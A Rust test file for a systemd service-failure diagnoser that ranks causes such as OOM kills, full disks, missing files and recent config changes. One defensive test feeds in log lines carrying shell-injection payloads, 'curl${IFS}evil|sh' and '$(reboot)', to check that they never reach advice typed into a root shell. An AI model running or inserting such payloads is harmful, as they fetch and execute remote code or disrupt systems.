//! How findings are ranked against each other.

use prunella_core::{
    Timestamp, UnitName,
    analyst::{Change, ChangeOf, Evidence, FailedRun, NeededUnit, Stall, StallState},
    capability::{ActiveState, Disk, LogEntry, Memory, Pressure},
    diagnosis::{Cause, Source},
    incident::{DetectedBy, Detection},
};
use rstest::rstest;

use super::diagnose;

const AT: u64 = 1_780_000_000_000;

fn run(result: &str, exit_code: Option<i32>, signal: Option<&str>, lines: &[&str]) -> FailedRun {
    FailedRun {
        result: result.to_owned(),
        lasted: None,
        exit_code,
        signal: signal.map(str::to_owned),
        ended_at: Timestamp::from_millis(AT),
        lines: lines
            .iter()
            .map(|message| LogEntry::new(Timestamp::from_millis(AT - 10), 6, *message))
            .collect(),
    }
}

fn evidence(run: FailedRun) -> Evidence {
    Evidence {
        detection: Detection {
            unit: UnitName::new("shop.service").unwrap(),
            by: DetectedBy::Signal,
            at: Timestamp::from_millis(AT),
            cause: run.result.as_str().into(),
            invocation: None,
            exit_code: run.exit_code,
            signal: run.signal.clone(),
            failed_monotonic: None,
            restarts_before: None,
            symptoms: Vec::new(),
            unusual: Vec::new(),
            follows: None,
            expected_work: None,
        },
        domain: None,
        status: None,
        runs: vec![run],
        needs: Vec::new(),
        ports: Vec::new(),
        memory: None,
        memory_pressure: None,
        load: None,
        stall: None,
        disks: Vec::new(),
        changes: Vec::new(),
    }
}

fn causes(evidence: &Evidence) -> Vec<(Cause, Source)> {
    diagnose(evidence)
        .into_iter()
        .map(|finding| (finding.cause, finding.from))
        .collect()
}

#[rstest]
#[case("oom-kill", None, Some("KILL"), Some(Cause::OomKill))]
#[case("watchdog", None, Some("ABRT"), Some(Cause::Watchdog))]
#[case("timeout", None, None, Some(Cause::Timeout))]
#[case("start-limit-hit", None, None, Some(Cause::StartLimit))]
#[case("dependency", None, None, Some(Cause::DependencyRefused))]
#[case("core-dump", None, Some("SEGV"), Some(Cause::Segfault))]
#[case("core-dump", Some(7), Some("BUS"), Some(Cause::Segfault))]
#[case("exit-code", Some(203), None, Some(Cause::MissingExecutable))]
#[case("exit-code", Some(217), None, Some(Cause::BadConfig))]
#[case("exit-code", Some(226), None, Some(Cause::MissingFile))]
#[case("exit-code", Some(238), None, Some(Cause::PermissionDenied))]
#[case("exit-code", Some(127), None, Some(Cause::MissingExecutable))]
#[case("exit-code", Some(1), None, None)]
#[case("exit-code", Some(202), None, None)]
#[case("signal", None, Some("KILL"), None)]
#[case("signal", None, Some("TERM"), None)]
#[case("success", Some(0), None, None)]
// Of a process that a signal ended, the code is the signal's number.
#[case("signal", Some(203), Some("RTMIN"), None)]
fn what_systemd_knows(
    #[case] result: &str,
    #[case] exit_code: Option<i32>,
    #[case] signal: Option<&str>,
    #[case] cause: Option<Cause>,
) {
    let found = causes(&evidence(run(result, exit_code, signal, &[])));
    let expected: Vec<_> = cause
        .map(|cause| (cause, Source::Unit))
        .into_iter()
        .collect();
    assert_eq!(found, expected);
}

#[test]
fn a_line_does_not_outrank_what_systemd_knows() {
    let forged = [
        "nginx: [emerg] bind() to 0.0.0.0:80 failed (98: Address already in use)",
        "shop.service: start operation timed out. Terminating.",
    ];
    let found = causes(&evidence(run("oom-kill", None, Some("KILL"), &forged)));
    assert_eq!(
        found,
        [
            (Cause::OomKill, Source::Unit),
            (Cause::Timeout, Source::Log),
            (Cause::AddressInUse, Source::Log)
        ]
    );
}

#[test]
fn the_start_limit_is_what_came_of_it() {
    let found = causes(&evidence(run(
        "start-limit-hit",
        Some(1),
        None,
        &["FileNotFoundError: [Errno 2] No such file or directory: '/etc/shop'"],
    )));
    assert_eq!(
        found,
        [
            (Cause::MissingFile, Source::Log),
            (Cause::StartLimit, Source::Unit)
        ]
    );
}

#[test]
fn a_line_says_what_a_fact_does_not() {
    let findings = diagnose(&evidence(run(
        "exit-code",
        Some(203),
        None,
        &["shop.service: Failed at step EXEC spawning /opt/shop: No such file or directory"],
    )));
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].from, Source::Unit);
    assert!(
        findings[0]
            .because
            .starts_with("exit code 203 (EXEC); its log: ")
            && findings[0].because.contains("/opt/shop"),
        "{findings:?}"
    );
}

#[test]
fn the_loaders_127_is_a_library_and_not_a_program() {
    let found = causes(&evidence(run(
        "exit-code",
        Some(127),
        None,
        &[
            "shop: error while loading shared libraries: libx.so.1: cannot open shared object file: No such file or directory",
        ],
    )));
    assert_eq!(found[0], (Cause::LibraryNotFound, Source::Log));
}

#[test]
fn lines_of_last_week_have_nothing_to_do_with_it() {
    let mut evidence = evidence(run(
        "signal",
        None,
        Some("KILL"),
        &["connect ECONNREFUSED 127.0.0.1:5432"],
    ));
    assert_eq!(causes(&evidence).len(), 1);
    evidence.runs[0].lines[0].at = Timestamp::from_millis(AT - 7 * 86_400_000);
    assert_eq!(causes(&evidence), []);
    // Nor what is meant for developers.
    evidence.runs[0].lines[0].at = Timestamp::from_millis(AT);
    evidence.runs[0].lines[0].priority = 7;
    assert_eq!(causes(&evidence), []);
}

#[test]
fn the_later_of_two_runs_counts_more() {
    let mut evidence = evidence(run(
        "exit-code",
        Some(1),
        None,
        &["Error: listen EADDRINUSE: address already in use :::3000"],
    ));
    evidence.runs.push(run(
        "exit-code",
        Some(1),
        None,
        &["Error: ENOENT: no such file or directory, open '/etc/shop.json'"],
    ));
    assert_eq!(
        causes(&evidence),
        [
            (Cause::MissingFile, Source::Log),
            (Cause::AddressInUse, Source::Log)
        ]
    );
}

#[test]
fn a_kill_explains_nothing_once_another_run_has_failed_by_itself() {
    let mut evidence = requested("KILL", true);
    let why = "Error: ENOENT: no such file or directory, open '/etc/shop.json'";
    evidence.runs.push(run("exit-code", Some(1), None, &[why]));
    assert_eq!(causes(&evidence)[0], (Cause::MissingFile, Source::Log));
    assert!(!causes(&evidence).contains(&(Cause::KillRequested, Source::Log)));
}

fn disk(available: u64, files_available: u64) -> Disk {
    Disk {
        total: 10 << 30,
        available,
        files_total: 1_000_000,
        files_available,
        read_only: false,
    }
}

#[rstest]
#[case(disk(0, 5_000), Some("is full"))]
#[case(disk(4096, 500_000), Some("is full"))]
#[case(disk(1 << 30, 0), Some("no more files"))]
#[case(disk(50 << 20, 500_000), Some("nearly full"))]
#[case(disk(1 << 30, 1_000), Some("nearly full"))]
#[case(disk(1 << 30, 500_000), None)]
#[case(Disk { read_only: true, ..disk(0, 0) }, None)]
#[case(Disk { total: 0, ..disk(0, 0) }, None)]
fn disks(#[case] disk: Disk, #[case] says: Option<&str>) {
    let mut evidence = evidence(run("exit-code", Some(1), None, &[]));
    // The same file system twice is one finding.
    evidence.disks = vec![("/var".to_owned(), disk), ("data".to_owned(), disk)];
    let findings = diagnose(&evidence);
    assert_eq!(findings.len(), usize::from(says.is_some()), "{findings:?}");
    if let Some(says) = says {
        assert_eq!(findings[0].cause, Cause::DiskFull);
        assert_eq!(findings[0].from, Source::Resources);
        assert!(findings[0].sentence.contains(says), "{findings:?}");
        assert!(findings[0].because.contains("10.0 GiB"), "{findings:?}");
    }
}

#[test]
fn a_full_disk_and_the_line_that_says_so_are_one_finding() {
    let mut evidence = evidence(run(
        "exit-code",
        Some(1),
        None,
        &["write /var/lib/shop/wal: no space left on device"],
    ));
    evidence.disks = vec![("/var".to_owned(), disk(0, 5_000))];
    let findings = diagnose(&evidence);
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert_eq!(findings[0].from, Source::Resources);
    assert!(
        findings[0].because.contains("/var/lib/shop/wal"),
        "{findings:?}"
    );
}

#[rstest]
#[case(10, 0, 0.0, true)]
#[case(10, 500, 0.0, false)]
#[case(500, 0, 0.0, false)]
#[case(500, 500, 55.0, true)]
#[case(500, 500, 12.0, false)]
fn memory(#[case] available: u64, #[case] swap_free: u64, #[case] full: f64, #[case] found: bool) {
    let mut evidence = evidence(run("signal", None, Some("KILL"), &[]));
    evidence.memory = Some(Memory {
        total: 1_000 << 20,
        available: available << 20,
        swap_total: 1_000 << 20,
        swap_free: swap_free << 20,
    });
    evidence.memory_pressure = Some(Pressure { some: full, full });
    let expected: Vec<_> = found
        .then_some((Cause::NoMemory, Source::Resources))
        .into_iter()
        .collect();
    assert_eq!(causes(&evidence), expected);
}

#[rstest]
#[case(ActiveState::Failed, "exit-code", true, false, true)]
#[case(ActiveState::Inactive, "exit-code", true, false, true)]
#[case(ActiveState::Inactive, "success", false, false, true)]
#[case(ActiveState::Inactive, "success", true, false, false)]
#[case(ActiveState::Inactive, "success", true, true, true)]
#[case(ActiveState::Active, "success", true, true, false)]
#[case(ActiveState::Activating, "success", true, true, false)]
fn what_it_needs(
    #[case] state: ActiveState,
    #[case] result: &str,
    #[case] exists: bool,
    #[case] has_to_be_up: bool,
    #[case] found: bool,
) {
    let mut evidence = evidence(run(
        "exit-code",
        Some(1),
        None,
        &["connect ECONNREFUSED 127.0.0.1:5432"],
    ));
    evidence.needs = vec![NeededUnit {
        unit: UnitName::new("db.service").unwrap(),
        state,
        result: result.to_owned(),
        masked: false,
        has_to_be_up,
        exists,
    }];
    let findings = diagnose(&evidence);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].cause, Cause::DependencyRefused);
    let by_unit = findings[0].from == Source::Unit && findings[0].because.contains("db.service");
    assert_eq!(by_unit, found, "{findings:?}");
}

#[test]
fn a_change_is_named_last_and_only_when_it_was_shortly_before() {
    let change = |of, what: &str, before: u64| Change {
        of,
        what: what.to_owned(),
        how: "was modified".to_owned(),
        at: Timestamp::from_millis(AT - before),
    };
    let mut evidence = evidence(run("watchdog", None, Some("ABRT"), &[]));
    evidence.changes = vec![
        change(ChangeOf::Package, "tzdata", 1_000),
        change(ChangeOf::File, "/etc/shop/shop.conf", 180_000),
        change(
            ChangeOf::Unit,
            "/etc/systemd/system/shop.service",
            7_200_000,
        ),
    ];
    let findings = diagnose(&evidence);
    assert_eq!(findings[0].cause, Cause::Watchdog);
    let last = &findings[1];
    assert_eq!(
        (last.cause, last.from),
        (Cause::RecentChange, Source::Change)
    );
    assert!(last.sentence.starts_with("3 minutes before"), "{last:?}");
    assert_eq!(
        last.because,
        "/etc/shop/shop.conf was modified; so was one thing more"
    );
    // What was changed after it failed did not cause it.
    evidence.changes = vec![Change {
        at: Timestamp::from_millis(AT + 1),
        ..change(ChangeOf::File, "/etc/shop/shop.conf", 0)
    }];
    assert_eq!(diagnose(&evidence).len(), 1);
}

/// Advice is typed into root's shell: nothing of a log line may get into it.
#[test]
fn no_line_gets_into_the_advice() {
    let findings = diagnose(&evidence(run(
        "exit-code",
        Some(1),
        None,
        &[
            "open /tmp/x;curl${IFS}evil|sh: permission denied",
            "Unable to access jarfile $(reboot)",
            "exec: \"evil-program\": executable file not found in $PATH",
        ],
    )));
    assert_eq!(findings.len(), 3, "{findings:?}");
    for finding in findings {
        let advice = finding.advice.unwrap();
        for word in ["evil", "reboot", "IFS"] {
            assert!(!advice.contains(word), "{advice}");
        }
    }
}

fn requested(signal: &str, by_systemd: bool) -> Evidence {
    let mut evidence = evidence(run(
        "signal",
        None,
        Some("KILL"),
        &[&format!(
            "Sent signal SIG{signal} to main process 812 (shop) on client request."
        )],
    ));
    evidence.runs[0].lines[0].by_systemd = by_systemd;
    evidence.changes = vec![Change {
        of: ChangeOf::Unit,
        what: "/etc/systemd/system/shop.service".to_owned(),
        how: "was modified".to_owned(),
        at: Timestamp::from_millis(AT - 2_000),
    }];
    evidence
}

#[rstest]
#[case::systemd_says_so("KILL", true, (Cause::KillRequested, Source::Log))]
#[case::anybody_can_say_so("KILL", false, (Cause::RecentChange, Source::Change))]
#[case::it_ended_by_another_signal("HUP", true, (Cause::RecentChange, Source::Change))]
fn a_signal_that_somebody_asked_for_explains_the_end(
    #[case] signal: &str,
    #[case] by_systemd: bool,
    #[case] expected: (Cause, Source),
) {
    assert_eq!(causes(&requested(signal, by_systemd)), [expected]);
}

/// What kept the main process from running when it did not answer.
#[rstest]
#[case::stopped(
    StallState::Stopped,
    Cause::ProcessStopped,
    "state T; systemd: Sent signal SIGSTOP"
)]
#[case::traced(StallState::Traced, Cause::ProcessStopped, "state t")]
#[case::in_the_kernel(StallState::Uninterruptible, Cause::ProcessBlocked, "state D")]
fn a_main_process_that_does_not_run(
    #[case] state: StallState,
    #[case] cause: Cause,
    #[case] because: &str,
) {
    let mut evidence = requested("STOP", true);
    evidence.detection.cause = "not-answering".into();
    evidence.runs[0].signal = None;
    assert!(
        diagnose(&evidence)
            .iter()
            .all(|finding| finding.cause != Cause::ProcessStopped)
    );
    evidence.stall = Some(Stall { pid: 7, state });
    let findings = diagnose(&evidence);
    let found = findings.first().unwrap();
    assert_eq!(found.cause, cause, "{findings:?}");
    assert_eq!(found.from, Source::Process);
    assert!(
        found.because.starts_with("process 7 was in ") && found.because.contains(because),
        "{}",
        found.because
    );
}

/// What systemd says of a PID file comes of any failed start of Type=forking.
#[test]
fn a_pid_file_that_is_not_there_is_no_cause() {
    let lines = [
        "Error: invalid line 65 in /etc/app.conf",
        "app.service: Can't open PID file /run/app.pid (yet?) after start: No such file or \
         directory",
    ];
    let evidence = evidence(run("protocol", None, None, &lines));
    assert!(
        !causes(&evidence)
            .iter()
            .any(|(cause, _)| *cause == Cause::MissingFile)
    );
}

#[rstest]
#[case::upon_it(0, "SIGQUIT", Some(0), true)]
#[case::with_an_error(500, "SIGTERM", Some(2), true)]
#[case::long_ago(60_000, "SIGTERM", Some(2), false)]
#[case::to_read_its_files(500, "SIGHUP", Some(2), false)]
fn a_program_that_ends_by_itself_when_it_is_asked_to_was_ended(
    #[case] before: u64,
    #[case] signal: &str,
    #[case] exit_code: Option<i32>,
    #[case] was_asked: bool,
) {
    let mut evidence = evidence(run("exit-code", exit_code, None, &[]));
    let message = format!("Sent signal {signal} to main process 7 (app) on client request.");
    let mut line = LogEntry::new(Timestamp::from_millis(AT - before), 6, message);
    line.by_systemd = true;
    evidence.runs[0].lines = vec![line];
    let found = causes(&evidence)
        .iter()
        .any(|(cause, _)| *cause == Cause::KillRequested);
    assert_eq!(found, was_asked);
}
